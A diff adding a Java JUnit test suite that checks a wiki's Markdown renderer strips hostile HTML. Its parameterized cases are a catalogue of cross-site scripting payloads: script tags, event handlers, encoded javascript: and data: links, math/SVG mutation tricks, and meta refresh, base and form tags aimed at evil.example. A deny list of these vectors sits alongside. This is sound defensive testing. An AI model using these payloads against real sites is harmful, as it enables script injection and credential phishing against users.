@@ -1,0 +1,247 @@
+package fr.essaim.markdown;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.List;
+import java.util.Locale;
+import java.util.function.UnaryOperator;
+import java.util.stream.Stream;
+
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Document;
+import org.jsoup.nodes.Element;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import fr.essaim.sheet.Slugs;
+
+/**
+ * Authors may type raw HTML in a sheet; whatever they type, readers must never get script, frames,
+ * forms or styles. Everything goes through {@link MarkdownRenderer#render}, as it does in the application.
+ */
+class HtmlSanitizerTest {
+
+    private static final List<String> FORBIDDEN = List.of("<script", "javascript:", "onerror", "onload", "onclick",
+            "onmouseover", "<iframe", "<object", "<embed", "style=", "<form", "<meta", "<base", "<link",
+            "vbscript:", "data:text/html");
+
+    /** Unknown wiki targets fall back to their slug, as in the sheet service. */
+    private static final UnaryOperator<String> RESOLVER = Slugs::slugify;
+
+    private final MarkdownRenderer renderer = new MarkdownRenderer();
+
+    private String render(String markdown) {
+        return renderer.render(markdown, RESOLVER).html();
+    }
+
+    /**
+     * @param surviving harmless text that must still be shown, or {@code null}
+     * @param absent    something else specific to the case that must be gone, or {@code null}
+     */
+    static Stream<Arguments> hostileInputs() {
+        return Stream.of(
+                Arguments.of("balise script", "<script>alert(1)</script>texte", "texte", "alert(1)"),
+                Arguments.of("script en majuscules", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>texte", "texte",
+                        "evil.example"),
+                Arguments.of("image avec onerror", "<img src=x onerror=alert(1)>texte", "texte", "<img"),
+                Arguments.of("image javascript: en casse mélangée", "<IMG SRC=JaVaScRiPt:alert(1)>texte", "texte",
+                        "<img"),
+                Arguments.of("lien HTML javascript:", "<a href=\"javascript:alert(1)\">clic</a>", "clic", "href"),
+                Arguments.of("lien Markdown javascript:", "[clic](javascript:alert(1))", "clic", "href"),
+                Arguments.of("lien Markdown JaVaScRiPt:", "[clic](JaVaScRiPt:alert(1))", "clic", "href"),
+                Arguments.of("javascript&#58; encodé en HTML", "<a href=\"javascript&#58;alert(1)\">clic</a>", "clic",
+                        "href"),
+                Arguments.of("javascript&#58; encodé en Markdown", "[clic](javascript&#58;alert(1))", "clic", "href"),
+                Arguments.of("j encodé en hexadécimal", "<a href=\"&#x6A;avascript:alert(1)\">clic</a>", "clic",
+                        "href"),
+                Arguments.of("javascript: précédé d'une espace", "<a href=\" javascript:alert(1)\">clic</a>", "clic",
+                        "href"),
+                Arguments.of("javascript: coupé par une tabulation", "<a href=\"java\tscript:alert(1)\">clic</a>",
+                        "clic", "href"),
+                Arguments.of("lien Markdown data:text/html", "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+                        "clic", "href"),
+                Arguments.of("lien HTML data:text/html",
+                        "<a href=\"data:text/html,<script>alert(1)</script>\">clic</a>", "clic", "href"),
+                Arguments.of("lien vbscript:", "[clic](vbscript:msgbox(1))", "clic", "href"),
+                Arguments.of("iframe", "<iframe src=\"https://evil.example\"></iframe>texte", "texte", "evil.example"),
+                Arguments.of("object", "<object data=\"https://evil.example/x.swf\"></object>texte", "texte",
+                        "evil.example"),
+                Arguments.of("embed", "<embed src=\"https://evil.example/x.swf\">texte", "texte", "evil.example"),
+                Arguments.of("svg onload", "<svg onload=alert(1)><circle r=\"10\"/></svg>texte", "texte", "<svg"),
+                Arguments.of("svg avec script", "<svg><script>alert(1)</script></svg>texte", "texte", "alert(1)"),
+                Arguments.of("math et mglyph/style",
+                        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
+                                + "</mtext></math>texte", "texte", "<math"),
+                Arguments.of("math avec lien xlink",
+                        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">clic</maction>"
+                                + "</math>", "clic", "<math"),
+                Arguments.of("bloc style", "<style>body{display:none}</style>texte", "texte", "display:none"),
+                Arguments.of("attribut style", "<p style=\"position:fixed;top:0;left:0\">texte</p>", "texte",
+                        "position:fixed"),
+                Arguments.of("formulaire", "<form action=\"https://evil.example\"><input name=\"motdepasse\">"
+                        + "<button>Envoyer</button></form>texte", "texte", "<input"),
+                Arguments.of("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">texte",
+                        "texte", "evil.example"),
+                Arguments.of("base href", "<base href=\"https://evil.example/\">texte", "texte", "evil.example"),
+                Arguments.of("feuille de style externe",
+                        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">texte", "texte", "evil.example"),
+                Arguments.of("onclick sur un paragraphe", "<p onclick=\"alert(1)\">texte</p>", "texte", "alert(1)"),
+                Arguments.of("onmouseover sur un lien",
+                        "<a href=\"https://example.org\" onmouseover=\"alert(1)\">texte</a>", "texte", "alert(1)"),
+                Arguments.of("onmouseover sur un bloc", "<div onmouseover=alert(1)>texte</div>", "texte", "alert(1)"),
+                Arguments.of("ontoggle sur details", "<details open ontoggle=alert(1)>texte</details>", "texte",
+                        "ontoggle"),
+                Arguments.of("balise imbriquée malformée", "<scr<script>ipt>alert(1)</script>texte", "texte",
+                        "alert(1)"),
+                Arguments.of("balise non fermée", "<script>alert(1)\n\ntexte", null, "alert(1)"),
+                Arguments.of("commentaire cachant un script", "<!-- <script>alert(1)</script> -->texte", "texte",
+                        "<!--"),
+                Arguments.of("commentaire conditionnel", "<!--[if IE]><script>alert(1)</script><![endif]-->texte",
+                        "texte", "alert(1)"),
+                Arguments.of("lien wiki vers javascript:", "[[javascript:alert(1)|voir]]", "voir", null),
+                Arguments.of("injection d'id", "<h2 id=\"__proto__\">texte</h2>", "texte", "__proto__"),
+                Arguments.of("id hors du format des ancres", "<h3 id=\"Document.Cookie\">texte</h3>", "texte",
+                        "id="),
+                Arguments.of("injection de classe", "<a class=\"btn btn-danger\" href=\"/fiches/x\">texte</a>", "texte",
+                        "btn-danger"),
+                Arguments.of("classe sur un bloc", "<div class=\"modal-backdrop\">texte</div>", "texte",
+                        "modal-backdrop"));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("hostileInputs")
+    void hostileInputIsDefused(String description, String markdown, String surviving, String absent) {
+        String html = render(markdown);
+        String lower = html.toLowerCase(Locale.ROOT);
+
+        for (String forbidden : FORBIDDEN) {
+            assertFalse(lower.contains(forbidden), () -> "« " + forbidden + " » in " + html);
+        }
+        if (absent != null) {
+            assertFalse(lower.contains(absent.toLowerCase(Locale.ROOT)), () -> "« " + absent + " » in " + html);
+        }
+        if (surviving != null) {
+            assertTrue(Jsoup.parseBodyFragment(html).text().contains(surviving), () -> "« " + surviving
+                    + " » lost in " + html);
+        }
+    }
+
+    @Test
+    void unclosedTagIsShownAsTextNotRunAsHtml() {
+        Document doc = Jsoup.parseBodyFragment(render("<img src=\"x\" onerror=\"alert(1)\ntexte"));
+
+        assertTrue(doc.select("img, [onerror]").isEmpty(), doc.html());
+        assertTrue(doc.text().startsWith("<img src=\"x\" onerror="), "the author sees what they typed: " + doc.text());
+        assertTrue(doc.text().contains("texte"), doc.html());
+    }
+
+    @Test
+    void quotesInAWikiLinkAnchorCannotOpenAnAttribute() {
+        Document doc = Jsoup.parseBodyFragment(render("[[fiche#x\" onclick=\"alert(1)|voir]]"));
+
+        Element link = doc.selectFirst("a");
+        assertEquals(List.of("href"), link.attributes().asList().stream().map(a -> a.getKey()).toList(), doc.html());
+        assertTrue(link.attr("href").startsWith("/fiches/fiche#"), link.attr("href"));
+        assertTrue(doc.select("[onclick]").isEmpty(), doc.html());
+        assertEquals("voir", link.text());
+    }
+
+    @Test
+    void wikiLinkWithHostileTargetStaysUnderTheSheetPath() {
+        String html = render("[[javascript:alert(1)|voir]]");
+
+        Element link = Jsoup.parseBodyFragment(html).selectFirst("a");
+        assertEquals("/fiches/javascript-alert-1", link.attr("href"));
+    }
+
+    @Test
+    void evenANaiveResolverCannotTurnAWikiLinkIntoAScriptLink() {
+        String html = renderer.render("[[javascript:alert(1)|voir]]", UnaryOperator.identity()).html();
+
+        Element link = Jsoup.parseBodyFragment(html).selectFirst("a");
+        assertTrue(link.attr("href").startsWith(MarkdownRenderer.SHEET_PATH), html);
+    }
+
+    @Test
+    void protocolRelativeLinkIsKeptAsAPlainLinkToThatSite() {
+        // "//evil.example" is read against an https base: an ordinary https link to another site, no script.
+        String html = render("<a href=\"//evil.example\">ailleurs</a> et [ailleurs](//evil.example/page)");
+
+        assertEquals(List.of("//evil.example", "//evil.example/page"),
+                Jsoup.parseBodyFragment(html).select("a").eachAttr("href"));
+    }
+
+    @Test
+    void ordinaryExternalLinkKeepsItsAddressAndGetsNofollow() {
+        Element link = Jsoup.parseBodyFragment(render("Voir [le site](https://example.org/a?b=1&c=2).")).selectFirst("a");
+
+        assertEquals("https://example.org/a?b=1&c=2", link.attr("href"));
+        assertEquals("nofollow noopener", link.attr("rel"));
+        assertEquals("le site", link.text());
+    }
+
+    @Test
+    void plainHttpLinkGetsNofollowToo() {
+        Element link = Jsoup.parseBodyFragment(render("<a href=\"http://example.org\">site</a>")).selectFirst("a");
+
+        assertEquals("http://example.org", link.attr("href"));
+        assertEquals("nofollow noopener", link.attr("rel"));
+    }
+
+    @Test
+    void authorCannotDropNofollowFromAnExternalLink() {
+        Element link = Jsoup.parseBodyFragment(render("<a href=\"https://example.org\" rel=\"follow\">site</a>"))
+                .selectFirst("a");
+
+        assertEquals("nofollow noopener", link.attr("rel"));
+    }
+
+    @Test
+    void relativeAndSectionLinksSurviveWithoutNofollow() {
+        Document doc = Jsoup.parseBodyFragment(render("[une fiche](/fiches/x), [une section](#contexte) "
+                + "et <a href=\"/fiches/y#resultats\">une autre</a>"));
+
+        assertEquals(List.of("/fiches/x", "#contexte", "/fiches/y#resultats"), doc.select("a").eachAttr("href"));
+        assertTrue(doc.select("a[rel]").isEmpty(), doc.html());
+    }
+
+    @Test
+    void mailLinkSurvives() {
+        Element link = Jsoup.parseBodyFragment(render("[écrire](mailto:contact@example.org)")).selectFirst("a");
+
+        assertEquals("mailto:contact@example.org", link.attr("href"));
+    }
+
+    @Test
+    void harmlessHtmlThatAuthorsUseIsKept() {
+        Document doc = Jsoup.parseBodyFragment(render(
+                "<mark>important</mark> <abbr title=\"Maison de services au public\">MSAP</abbr> "
+                        + "<del>ancien</del> <ins>nouveau</ins><br>suite"));
+
+        assertEquals("important", doc.select("mark").text());
+        assertEquals("Maison de services au public", doc.select("abbr").attr("title"));
+        assertEquals("ancien", doc.select("del").text());
+        assertEquals("nouveau", doc.select("ins").text());
+        assertEquals(1, doc.select("br").size());
+    }
+
+    @Test
+    void safeHeadingIdWrittenByTheAuthorIsKept() {
+        Element heading = Jsoup.parseBodyFragment(render("<h2 id=\"mon-ancre\">Titre</h2>")).selectFirst("h2");
+
+        assertEquals("mon-ancre", heading.id());
+    }
+
+    @Test
+    void wikilinkClassesAreTheOnlyOnesKept() {
+        Document doc = Jsoup.parseBodyFragment(render(
+                "<a class=\"wikilink missing\" href=\"/fiches/x\">a</a> <a class=\"wikilink evil\" href=\"/fiches/y\">b</a>"));
+
+        assertEquals("wikilink missing", doc.select("a").get(0).className());
+        assertFalse(doc.select("a").get(1).hasAttr("class"), doc.html());
+    }
+}
